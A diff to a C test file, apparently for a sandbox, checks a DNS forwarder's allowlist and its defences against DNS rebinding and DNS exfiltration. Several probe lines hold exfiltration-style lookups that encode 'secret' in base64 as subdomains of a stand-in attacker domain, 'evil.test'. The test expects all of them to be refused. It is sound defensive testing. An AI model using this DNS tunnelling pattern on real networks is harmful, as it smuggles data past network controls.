@@ -417,6 +417,12 @@ TEST_TIMEOUT(domain_allowlist_and_no_dns_exfiltration, 120)
     /* an allowed name that answers with a private address: no rebinding */
     EXPECT_PROBE(&s, id, "10.99.0.10", "resolve", "private.test");
     EXPECT_PROBE(&s, id, "ERR", "get", "http://private.test/");
+    /* the forwarder over UDP and TCP: an answer for an allowed name,
+     * REFUSED (5) for any other */
+    EXPECT_PROBE(&s, id, "ANSWER rcode=0 answers=1", "rawdns", "10.210.0.1", "allowed.test");
+    EXPECT_PROBE(&s, id, "ANSWER rcode=0 answers=1", "tcpdns", "10.210.0.1", "tcp.wild.test");
+    EXPECT_PROBE(&s, id, "ANSWER rcode=5 answers=0", "rawdns", "10.210.0.1", "other.test");
+    EXPECT_PROBE(&s, id, "ANSWER rcode=5 answers=0", "tcpdns", "10.210.0.1", "tcp-c2VjcmV0.evil.test");
     /* exfiltration through DNS: the data never reaches a DNS server */
     EXPECT_PROBE(&s, id, "ERR", "resolve", "c2VjcmV0LWRhdGE.evil.test");
     EXPECT_PROBE(&s, id, "ERR", "resolve", "c2VjcmV0LWRhdGE.allowed.test.evil.test");
